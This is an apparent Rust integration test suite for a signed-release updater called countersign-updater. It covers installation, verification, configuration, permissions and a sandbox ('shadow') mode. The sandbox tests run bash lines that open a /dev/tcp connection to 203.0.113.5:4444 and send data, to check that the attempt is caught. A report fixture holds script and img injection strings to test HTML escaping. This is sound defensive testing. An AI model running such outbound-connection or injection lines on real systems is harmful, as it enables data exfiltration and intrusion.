//! The program as people meet it: install, look, verify, and the errors of a newcomer.

#[cfg(test)]
#[path = "../src/fixture/mod.rs"]
mod fixture;

#[cfg(test)]
mod tests {
    use std::fs;
    use std::net::TcpListener;
    use std::path::Path;
    use std::process::{Command, Output};

    use countersign_metadata::Sha256;
    use countersign_metadata::statement::Outcome;
    use serde_json::{Value, json};

    use super::fixture::mirror::{Mirror, Mischief};
    use super::fixture::proxy::Proxy;
    use super::fixture::{PRODUCT, Person, Repository};

    const PROGRAM: &str = env!("CARGO_BIN_EXE_countersign-updater");

    fn run(args: &[&str]) -> Output {
        Command::new(PROGRAM).args(args).output().unwrap()
    }

    fn install(repository: &Repository, url: &str, node: &Path, more: &[&str]) -> Output {
        let root = repository.root_file();
        let (root, node) = (root.to_str().unwrap(), node.to_str().unwrap());
        let mut args =
            vec!["install", "--repository", url, "--root", root, "--product", PRODUCT, node];
        args.extend(more);
        run(&args)
    }

    fn text(output: &Output) -> String {
        let both = [output.stdout.as_slice(), &output.stderr].concat();
        String::from_utf8(both).unwrap()
    }

    #[track_caller]
    fn json(output: &Output) -> Value {
        assert!(output.status.success(), "{}", text(output));
        serde_json::from_slice(&output.stdout).unwrap()
    }

    /// Checks the exit code, that the sentence says this, and that there is a hint.
    #[track_caller]
    fn fails(output: &Output, exit: i32, says: &str) {
        let told = text(output);
        assert_eq!(output.status.code(), Some(exit), "{told}");
        assert!(told.contains(says), "{told}");
        assert!(told.starts_with("error: ") && told.contains("\nhint: "), "{told}");
    }

    fn repository() -> Repository {
        let mut repository = Repository::new();
        let files = [("bin/node*", "#!/bin/sh\n"), ("share/words", "one two three")];
        repository.add("1.0.0", &files, json!({ "notes": "First release" }));
        repository.add("0.9.0", &files, json!({}));
        repository.publish(2);
        repository
    }

    #[test]
    fn a_node_is_installed_from_an_address_and_a_root_and_can_be_looked_at() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let served = Mirror::serve(repository.dir.path(), Mischief::None);
        let done = install(&repository, &served.url, &node, &["--delay", "2s..5s", "--json"]);
        let installed = json(&done);
        assert_eq!(installed["version"], "1.0.0");
        assert_eq!(installed["delay"], json!({ "min-ms": 2000, "max-ms": 5000 }));
        assert_eq!(fs::read_link(node.join("current")).unwrap(), Path::new("generations/1"));
        assert_eq!(fs::read_dir(node.join("state/1")).unwrap().count(), 0);

        let node = node.to_str().unwrap();
        let status = json(&run(&["status", node, "--json"]));
        assert_eq!(status["running"]["version"], "1.0.0");
        assert_eq!(status["state"], "Idle");
        assert!(status["next"].as_str().unwrap().contains("supervise"), "{status}");
        assert!(text(&run(&["status", node])).starts_with("example 1.0.0"));
        assert_eq!(json(&run(&["history", node, "--json"])), json!([]));

        let explained = json(&run(&["explain", node, "--json"]));
        assert_eq!(explained["decisions"][0]["verdict"], "running");
        assert!(explained["decisions"][1]["why"].as_str().unwrap().contains("not newer"));
        let offline = json(&run(&["explain", node, "--offline", "--json"]));
        assert_eq!(offline["mirror"], Value::Null);
        assert_eq!(offline["decisions"], explained["decisions"]);

        let doctor = run(&["doctor", node, "--json"]);
        let doctor: Value = serde_json::from_slice(&doctor.stdout).unwrap();
        let names: Vec<_> =
            doctor["findings"].as_array().unwrap().iter().map(|f| &f["name"]).collect();
        for wanted in ["running release", "state copies"] {
            assert!(names.contains(&&json!(wanted)), "{names:?}");
        }

        fails(&install(&repository, &served.url, Path::new(node), &[]), 3, "already installed");
    }

    #[test]
    fn an_older_version_is_installed_where_it_is_asked_for_and_a_missing_one_is_explained() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let url = repository.url();
        let old =
            install(&repository, &url, &dir.path().join("a"), &["--version", "0.9.0", "--json"]);
        assert_eq!(json(&old)["version"], "0.9.0");
        let none = install(&repository, &url, &dir.path().join("b"), &["--version", "7.0.0"]);
        fails(&none, 1, "1.0.0: 7.0.0 was asked for");
        let (root, node) = (repository.root_file(), dir.path().join("c"));
        let (root, node) = (root.to_str().unwrap(), node.to_str().unwrap());
        let args = ["install", "--repository", &url, "--root", root, "--product", "nosuch", node];
        fails(&run(&args), 3, "the repository has no product nosuch");
    }

    #[test]
    fn a_mirror_that_refused_or_lied_is_shown_by_name_with_the_time_to_ask_again() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let refuse = Mischief::Refuse { status: 429, retry_after: Some(900), all: false };
        let serve = |mischief| Mirror::serve(repository.dir.path(), mischief).url;
        let (busy, lies, good) = (serve(refuse), serve(Mischief::Zeros), serve(Mischief::None));
        let more = ["--repository", lies.as_str(), "--repository", &good];
        json(&install(&repository, &busy, &node, &[more.as_slice(), &["--json"]].concat()));
        let node = node.to_str().unwrap();
        let status = json(&run(&["status", node, "--json"]));
        let mirrors = status["mirrors"].as_array().unwrap();
        assert_eq!(mirrors.len(), 2, "{status}");
        for (mirror, fault) in [(&busy, "busy"), (&lies, "untrusted")] {
            let named = mirrors.iter().find(|told| told["mirror"] == json!(mirror)).unwrap();
            assert_eq!((&named["fault"], &named["for"]), (&json!(fault), &json!("artifact")));
        }
        let told = text(&run(&["status", node]));
        assert!(told.contains(&format!("mirror      {busy} refused the artifact")), "{told}");
        assert!(told.contains("answered 429; not asked before 20"), "{told}");
        assert!(told.contains(&format!("mirror      {lies} lied about the artifact")), "{told}");
    }

    #[test]
    fn a_node_behind_a_proxy_of_its_environment_is_installed_through_it() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let mirror = Mirror::serve(repository.dir.path(), Mischief::None);
        let proxy = Proxy::to(&mirror.url);
        let (root, node) = (repository.root_file(), node.to_str().unwrap().to_owned());
        let url = "http://mirror.test/";
        let done = Command::new(PROGRAM)
            .args(["install", "--json", "--repository", url, "--product", PRODUCT, "--root"])
            .args([root.to_str().unwrap(), &node])
            .env("HTTP_PROXY", &proxy.url)
            .output()
            .unwrap();
        assert_eq!(json(&done)["version"], "1.0.0");
        let asked = proxy.asked.lock().unwrap().clone();
        assert!(asked.iter().all(|line| line.starts_with("GET http://mirror.test/")), "{asked:?}");
        assert!(asked.iter().any(|line| line.contains("/targets/")), "{asked:?}");
    }

    #[test]
    fn a_directory_with_other_things_in_it_is_not_touched() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("thesis.tex"), "years").unwrap();
        let output = install(&repository, &repository.url(), dir.path(), &[]);
        fails(&output, 3, "exists and is not empty");
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 1);
        fails(&run(&["status", dir.path().to_str().unwrap()]), 3, "is not a node directory");
    }

    #[test]
    fn an_unreachable_mirror_is_the_networks_fault_and_the_install_can_be_begun_again() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let output = install(&repository, "http://127.0.0.1:1/", &node, &[]);
        fails(&output, 5, "http://127.0.0.1:1/");
        let output = install(&repository, &repository.url(), &node, &[]);
        assert!(output.status.success(), "{}", text(&output));
    }

    #[test]
    fn another_root_and_too_few_signatures_trust_nothing() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let mut other = Repository::with_root(7);
        other.publish(2);
        let output = install(&other, &repository.url(), &node, &[]);
        fails(&output, 6, "no mirror gave a repository that can be trusted");
        let junk = dir.path().join("root.json");
        fs::write(&junk, "{}").unwrap();
        let args = ["install", "--repository", &repository.url(), "--root", junk.to_str().unwrap()];
        let output = run(&[&args[..], &["--product", PRODUCT, node.to_str().unwrap()]].concat());
        fails(&output, 6, "is not a valid root");

        let mut lone = Repository::new();
        lone.add("1.0.0", &[("bin/node*", "x")], json!({}));
        lone.publish(1);
        let node = dir.path().join("lone");
        fails(&install(&lone, &lone.url(), &node, &[]), 6, "signed by 1 of the 2 keys");
    }

    #[test]
    fn one_flipped_byte_on_the_mirror_is_refused_with_both_digests() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let flips = Mirror::serve(repository.dir.path(), Mischief::FlipLast);
        let output = install(&repository, &flips.url, &dir.path().join("node"), &[]);
        fails(&output, 6, "digest mismatch: wanted ");
        assert!(!dir.path().join("node/countersign-updater.toml").exists());
    }

    #[test]
    fn a_port_in_use_and_a_socket_that_is_not_there_are_told_with_the_way_out() {
        let taken = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = taken.local_addr().unwrap().to_string();
        let mut repository = Repository::new();
        let node = json!({ "command": ["bin/node"], "listen": { "http": address } });
        repository.add("1.0.0", &[("bin/node*", "x")], json!({ "node": node }));
        repository.publish(2);
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let output = install(&repository, &repository.url(), &node, &[]);
        fails(&output, 7, &format!("cannot listen on {address}"));
        assert!(text(&output).contains("--listen http="));
        let output =
            install(&repository, &repository.url(), &node, &["--listen", "web=127.0.0.1:0"]);
        fails(&output, 2, "no socket \"web\"");
        let output =
            install(&repository, &repository.url(), &node, &["--listen", "http=127.0.0.1:0"]);
        assert!(output.status.success(), "{}", text(&output));
        let config = fs::read_to_string(node.join("countersign-updater.toml")).unwrap();
        assert!(config.contains("[listen]"), "{config}");
    }

    #[test]
    fn what_is_not_there_yet_is_refused_by_name() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        let output = install(&repository, &repository.url(), &node, &["--state-from", "/tmp"]);
        fails(&output, 2, "--state-from is not there yet");
        assert!(!node.exists());
    }

    #[test]
    fn a_wrong_line_in_the_configuration_is_named() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        assert!(install(&repository, &repository.url(), &node, &[]).status.success());
        let file = node.join("countersign-updater.toml");
        let config = fs::read_to_string(&file).unwrap();
        fs::write(&file, format!("{config}\n[probation]\ncrashes = \"many\"\n")).unwrap();
        let line = config.lines().count() + 3;
        fails(&run(&["status", node.to_str().unwrap()]), 3, &format!("toml:{line}: "));
    }

    #[test]
    fn a_drop_in_replaces_a_setting_and_config_says_where_each_comes_from() {
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        assert!(install(&repository, &repository.url(), &node, &[]).status.success());
        let drop_ins = node.join("countersign-updater.d");
        fs::create_dir(&drop_ins).unwrap();
        fs::write(drop_ins.join("50-site.toml"), "# Ours\ndelay = \"7s..8s\"\n").unwrap();
        let node = node.to_str().unwrap();
        let shown = text(&run(&["config", node]));
        let delay = shown.lines().find(|line| line.contains("delay")).unwrap();
        assert!(delay.contains("7s..8s"), "{shown}");
        assert!(delay.contains("countersign-updater.d/50-site.toml:2"), "{shown}");
        let document = json(&run(&["config", node, "--json"]));
        assert_eq!(document["files"].as_array().unwrap().len(), 2);
        let settings = document["settings"].as_array().unwrap();
        let attempts = settings.iter().find(|s| s["key"] == "attempts").unwrap();
        assert_eq!(*attempts, json!({ "key": "attempts", "value": 3, "from": null }));
        fs::write(drop_ins.join("60-wrong.toml"), "\ncolour = \"red\"\n").unwrap();
        fails(&run(&["config", node]), 3, "60-wrong.toml:2: unknown field `colour`");
    }

    #[test]
    fn a_node_directory_is_closed_to_others_and_written_by_its_owner_only() {
        use std::os::unix::fs::{MetadataExt, chown};
        let repository = repository();
        let dir = tempfile::tempdir().unwrap();
        let node = dir.path().join("node");
        assert!(install(&repository, &repository.url(), &node, &[]).status.success());
        for path in ["", "run", "log", "reports", "snapshots", "shadow", "state/1"] {
            let mode = node.join(path).metadata().unwrap().mode() & 0o777;
            assert_eq!(mode, 0o700, "{path}");
        }
        let mode = node.join("run/trust.lock").metadata().unwrap().mode() & 0o777;
        assert_eq!(mode, 0o600);
        if node.metadata().unwrap().uid() != 0 {
            return; // Only root can give it to a service user, and only root is not stopped by its modes.
        }
        let all = || -> std::collections::BTreeSet<_> {
            walkdir(&node).into_iter().filter(|p| p.metadata().unwrap().uid() == 0).collect()
        };
        for path in walkdir(&node) {
            std::os::unix::fs::lchown(&path, Some(4_000_000), Some(4_000_000)).unwrap();
        }
        chown(&node, Some(4_000_000), Some(4_000_000)).unwrap();
        let text_of = node.to_str().unwrap();
        let verbs = [
            &["run", "--once"][..],
            &["apply"],
            &["hold"],
            &["release"],
            &["rollback"],
            &["supervise"],
            &["explain"],
        ];
        for verb in verbs {
            let output = run(&[verb, &[text_of]].concat());
            fails(&output, 7, "belongs to #4000000");
            assert!(text(&output).contains("sudo -u '#4000000'"), "{}", text(&output));
        }
        assert_eq!(all(), std::collections::BTreeSet::new(), "not one file of root's");
        let status = run(&["status", text_of]);
        assert!(status.status.success(), "{}", text(&status));
        assert!(run(&["history", text_of]).status.success());
        assert!(run(&["explain", "--offline", text_of]).status.success());
        assert_eq!(all(), std::collections::BTreeSet::new(), "looking writes nothing");
    }

    fn walkdir(dir: &Path) -> Vec<std::path::PathBuf> {
        let mut found = Vec::new();
        for entry in fs::read_dir(dir).unwrap() {
            let entry = entry.unwrap();
            if entry.file_type().unwrap().is_dir() {
                found.extend(walkdir(&entry.path()));
            }
            if !entry.file_type().unwrap().is_symlink() {
                found.push(entry.path());
            }
        }
        found
    }

    #[test]
    fn verify_says_who_signed_and_who_reproduced_a_file() {
        let repository = repository();
        let releases = repository.releases();
        let newest = releases.verified.iter().find(|t| t.release().version.to_string() == "1.0.0");
        let release = newest.unwrap().release();
        let stranger = Person::new(9, "stranger");
        repository.attest(release, &repository.keyholders[0], Outcome::Reproduced);
        repository.attest(release, &stranger, Outcome::Divergence { sha256: Sha256::of(b"x") });
        let file = repository.served(release);
        let (url, root) = (repository.url(), repository.root_file());
        let args = ["--repository", &url, "--root", root.to_str().unwrap()];
        let verify = |file: &Path, more: &[&str]| {
            run(&[&["verify", file.to_str().unwrap()], &args[..], more].concat())
        };
        let told = text(&verify(&file, &[]));
        for part in [
            "is example 1.0.0 for linux-",
            "Every byte is as it was signed.",
            "Signed by 2 keyholders (2 needed):",
            "alice (keyholder)",
            "a stranger",
            "DIFFERS",
            "minisign -V -P RW",
            "| sha256sum -c",
        ] {
            assert!(told.contains(part), "{part}: {told}");
        }
        let found = json(&verify(&file, &["--json"]));
        assert_eq!(found["signers"][1]["label"], "bob");
        assert_eq!(found["verdicts"].as_array().unwrap().len(), 2);
        let strangers = |v: &&Value| v["keyholder"] == false;
        let verdicts = found["verdicts"].as_array().unwrap();
        let stranger_seen = verdicts.iter().find(strangers).unwrap();
        assert_eq!(stranger_seen["rebuilder"], stranger.key.to_string());

        let dir = tempfile::tempdir().unwrap();
        let tar = dir.path().join("a.tar");
        fs::write(&tar, zstd::decode_all(fs::File::open(&file).unwrap()).unwrap()).unwrap();
        assert!(text(&verify(&tar, &[])).contains("compressed otherwise"));
        let wrong = dir.path().join(release.file_name());
        let mut bytes = fs::read(&file).unwrap();
        *bytes.last_mut().unwrap() ^= 1;
        fs::write(&wrong, bytes).unwrap();
        fails(&verify(&wrong, &[]), 6, "is not the signed release 1.0.0: wanted ");
        fs::write(&wrong, &fs::read(&file).unwrap()[..100]).unwrap();
        fails(&verify(&wrong, &[]), 6, "is not the signed release 1.0.0: wanted ");
        let other = dir.path().join("other");
        fs::write(&other, "something else").unwrap();
        fails(&verify(&other, &[]), 6, "is not a release that this repository signs");
    }

    #[test]
    fn any_program_can_be_run_in_the_shadow_and_is_told_on() {
        let quiet = json(&run(&["shadow", "run", "--json", "--", "/bin/true"]));
        assert_eq!((&quiet["attempts"], &quiet["stopped"]), (&json!([]), &json!(false)));
        let dir = tempfile::tempdir().unwrap();
        let state = dir.path().to_str().unwrap();
        let script = "echo hi > /state/file; exec 3<>/dev/tcp/203.0.113.5/4444";
        let command = ["/bin/bash", "-c", script];
        let loud =
            run(&[&["shadow", "run", "--json", "--state", state, "--"], &command[..]].concat());
        assert_eq!(loud.status.code(), Some(1), "{}", text(&loud));
        let loud: Value = serde_json::from_slice(&loud.stdout).unwrap();
        assert_eq!(loud["attempts"][0]["destination"], "203.0.113.5");
        assert_eq!(loud["attempts"][0]["port"], 4444);
        let wrote = json!([{ "path": "file", "deed": "created", "bytes": 3 }]);
        assert_eq!(loud["written"]["list"], wrote);
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0, "it stays as it is");
        let _door = std::os::unix::net::UnixListener::bind(dir.path().join("door")).unwrap();
        let refused = run(&["shadow", "run", "--state", state, "--", "/bin/true"]);
        fails(&refused, 7, "door in it is a socket: a way out of the sandbox");
        assert_eq!(loud["attempts"][0]["processes"][0]["command"], "bash");
        assert_eq!(loud["telltales"][0], "seccomp");
        let script = "exec 3<>/dev/tcp/203.0.113.5/4444; echo hello >&3";
        let told = run(&["shadow", "run", "--first-bytes", "64", "--", "/bin/bash", "-c", script]);
        let wanted = "TCP to 203.0.113.5 port 4444, by bash (pid 2), saying \"hello\\n\"";
        assert!(text(&told).contains(wanted), "{}", text(&told));
        let told = run(&["shadow", "run", "--for", "200ms", "--", "/bin/sleep", "1000"]);
        assert!(text(&told).contains("still ran, and was stopped"), "{}", text(&told));
        fails(&run(&["shadow", "run", "--", "/nowhere"]), 3, "cannot execute /nowhere");
    }

    #[test]
    fn what_a_program_writes_runs_in_the_shadow_only_where_exactly_that_is_lowered() {
        let script = "cp /bin/true /tmp/written; /tmp/written && echo ran >&2";
        let run = |lower: &[&str]| {
            run(&[&["shadow", "run", "--json"], lower, &["--", "/bin/sh", "-c", script]].concat())
        };
        assert_eq!(json(&run(&[]))["exit"], json!({ "code": 126 }));
        let lowered = json(&run(&["--lower", "programs"]));
        assert_eq!(lowered["exit"], json!({ "code": 0 }));
        assert!(lowered["lowered"].as_array().unwrap().contains(&json!("programs")), "{lowered}");
        let refused = run(&["--lower", "sinkhole"]);
        assert_eq!(refused.status.code(), Some(2));
        assert!(text(&refused).contains("\"sinkhole\" is never lowered"), "{}", text(&refused));
    }

    #[test]
    fn a_kernel_without_user_namespaces_is_refused_by_name() {
        let script = format!(
            "echo 0 > /proc/sys/user/max_user_namespaces; exec {PROGRAM} shadow run -- /bin/true"
        );
        let output = Command::new("unshare").args(["-Ur", "sh", "-euc", &script]).output().unwrap();
        fails(&output, 7, "this machine lacks ");
        assert!(text(&output).contains("countersign-updater doctor"));
    }

    #[test]
    fn the_help_teaches_by_example_and_lists_the_exit_codes() {
        let help = text(&run(&["--help"]));
        for part in ["Examples:", "countersign-updater install", "Exit codes:"] {
            assert!(help.contains(part), "{part}: {help}");
        }
        assert!(text(&run(&["--version"])).starts_with("countersign-updater 0."));
    }

    /// A node in whose shadow one release was refused and one cleared.
    fn with_reports() -> tempfile::TempDir {
        let node = tempfile::tempdir().unwrap();
        let config = format!("product = \"{PRODUCT}\"\nrepositories = []\n");
        fs::write(node.path().join("countersign-updater.toml"), config).unwrap();
        fs::create_dir(node.path().join("reports")).unwrap();
        for (version, verdict) in [
            ("1.0.0", json!({ "verdict": "cleared" })),
            (
                "2.0.0",
                json!({ "verdict": "refused", "reasons": [
                    { "reason": "no-identity", "why": "<script>alert(1)</script>" }
                ] }),
            ),
        ] {
            let artifact = Sha256::of(version.as_bytes());
            let report = json!({
                "format": 1, "product": PRODUCT, "version": version, "artifact": artifact,
                "window_ms": 1000, "watched_ms": 1000, "migrations": [], "ready_after_ms": 7,
                "health": null, "attempts": [], "unaccounted": 0, "ending": null,
                "written": { "names": 1, "bytes": 5, "list": [
                    { "path": "dir/%FF<b>", "deed": "created", "bytes": 5 }
                ] },
                "verdict": verdict, "output_end": "</pre><img src=x>",
            });
            let file = node.path().join(format!("reports/{artifact}.json"));
            fs::write(&file, report.to_string()).unwrap();
            let at = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1);
            let earlier = fs::File::open(&file).unwrap();
            if version == "1.0.0" {
                earlier.set_modified(at).unwrap();
            }
        }
        node
    }

    #[test]
    fn a_shadow_report_is_told_and_shown_and_what_others_chose_stays_text() {
        let node = with_reports();
        let dir = node.path().to_str().unwrap();
        let page = node.path().join("page.html");
        let told = run(&["shadow", "report", dir, "--html", page.to_str().unwrap()]);
        assert_eq!(told.status.code(), Some(1), "the last one was refused: {}", text(&told));
        assert!(text(&told).contains("example 2.0.0 was refused"), "{}", text(&told));
        let page = fs::read_to_string(page).unwrap();
        assert!(page.contains("default-src 'none'") && page.contains(">Refused<"));
        assert!(page.contains("%FF&lt;b&gt;") && page.contains("&lt;script&gt;"));
        assert!(!page.contains("<script") && !page.contains("<img") && !page.contains("<b>"));
        let cleared = json(&run(&["shadow", "report", dir, "1.0.0", "--json"]));
        assert_eq!(cleared["verdict"]["verdict"], "cleared");
        let none = run(&["shadow", "report", dir, "9.9.9"]);
        fails(&none, 3, "version 9.9.9 was not tried in the shadow here");
    }

    #[test]
    fn a_shadow_report_is_signed_by_the_key_that_it_names_and_by_no_other() {
        use countersign_metadata::request::{Signature, SigningRequest};
        use countersign_metadata::statement::{Statement, Tried, VerificationResult, identity_key};

        let node = with_reports();
        let path = |name: &str| node.path().join(name).to_str().unwrap().to_owned();
        let (alice, bob) = (Person::new(1, "alice"), Person::new(2, "bob"));
        let (key, other) = (alice.key.to_string(), bob.key.to_string());
        // The signer is a person at the other end of two pipes.
        for pipe in ["request", "answer"] {
            nix::unistd::mkfifo(path(pipe).as_str(), nix::sys::stat::Mode::S_IRWXU).unwrap();
        }
        let ask = format!("sh -c 'cat > {}; cat {}'", path("request"), path("answer"));
        let sign = |key: &str| {
            let (request, answer) = (path("request"), path("answer"));
            std::thread::spawn(move || {
                let request: SigningRequest =
                    serde_json::from_slice(&fs::read(request).unwrap()).unwrap();
                let (message, alice) = (request.message(), Person::new(1, "alice"));
                let signature = Signature {
                    format: 1,
                    message: Sha256::of(&message),
                    key: alice.key,
                    label: String::new(),
                    signature: alice.sign(&message),
                    minisig: None,
                    rebuilt: None,
                    waiver: None,
                    vouched: None,
                };
                fs::write(answer, serde_json::to_vec(&signature).unwrap()).unwrap();
            });
            let report = ["shadow", "report", node.path().to_str().unwrap(), "1.0.0"];
            let signed = path("signed");
            let more = ["--sign", "--identity", key, "--signer", &ask, "-o", &signed];
            run(&[&report[..], &more].concat())
        };
        fails(&sign(&other), 4, "nothing was signed");
        assert!(!Path::new(&path("signed")).exists());
        let signed = sign(&key);
        assert!(signed.status.success(), "{}", text(&signed));
        let envelope = fs::read(path("signed")).unwrap();
        let envelope: countersign_metadata::dsse::Envelope =
            serde_json::from_slice(&envelope).unwrap();
        assert!(envelope.verify(&bob.key).is_err());
        let payload = envelope.verify(&alice.key).unwrap();
        let statement: Statement<Tried> = serde_json::from_slice(&payload).unwrap();
        let tried = statement.predicate;
        assert_eq!(statement.predicate_type, "https://countersign.dev/shadow-report/v1");
        assert_eq!(identity_key(&tried.observer.id), Some(alice.key));
        assert_eq!(tried.verification_result, VerificationResult::Passed);
        assert_eq!(statement.subject[0].digest.sha256, Sha256::of(b"1.0.0"));
        let file = path(&format!("reports/{}.json", Sha256::of(b"1.0.0")));
        assert_eq!(tried.report_digest.sha256, Sha256::of(&fs::read(file).unwrap()));
    }
}
